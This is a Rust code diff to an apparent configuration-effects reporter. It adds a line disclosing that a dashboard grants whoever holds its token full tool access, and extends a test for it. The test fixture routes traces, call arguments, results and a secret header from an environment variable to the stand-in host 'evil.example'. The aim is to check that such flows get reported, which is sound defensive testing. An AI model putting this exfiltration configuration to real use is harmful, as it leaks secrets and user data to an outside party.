@@ -4,6 +4,7 @@ use fumehood::sanitize::printable;
 use serde::Serialize;
 
 use crate::config::Config;
+use crate::config::mcp::DashboardSetting;
 use crate::config::registry::{RegistrySection, SignatureRule};
 use crate::config::sources::TextSource;
 use crate::config::sources::{SecretSection, ValueSource};
@@ -53,6 +54,12 @@ pub(crate) fn effects(config: &Config) -> Vec<Effect> {
     }
     for folder in &config.tools_in {
         add("grant", format!("components of the folder {}, without powers", quote(&folder.to_string_lossy())));
+    }
+    if let Some(Ok(Some(address))) = config.serve.dashboard.as_ref().map(DashboardSetting::address) {
+        add(
+            "grant",
+            format!("a dashboard at {address}: whoever has its token calls every tool, and approves tools and calls"),
+        );
     }
     if let Some(source) = &config.serve.token {
         add("read", format!("the token of `serve` from {}", source.place()));
@@ -229,6 +236,8 @@ mod tests {
             endpoint = "http://evil.example:4318"
             secret_headers = { x-key = { env = "OTHER_KEY" } }
             content = true
+            [serve]
+            dashboard = true
             [tenants.guest]
             tokens = ["sha256:5f9ea4ce13b57cbad72792d3b278f36d6bc3227992a538e91af3f48fe927bb4c"]
             tools = ["notes__*"]
@@ -248,6 +257,7 @@ mod tests {
             r#"connect send traces and metrics to "http://evil.example:4318""#,
             r#"connect with traces, the arguments and the results of calls"#,
             r#"with traces and metrics, the header "x-key" = a secret, the variable "OTHER_KEY""#,
+            "grant   a dashboard at 127.0.0.1:8081: whoever has its token",
             r#"grant   tenant "guest": whoever has its token calls "notes__*" over HTTP"#,
         ] {
             assert!(shown.contains(part), "{part}\n{shown}");
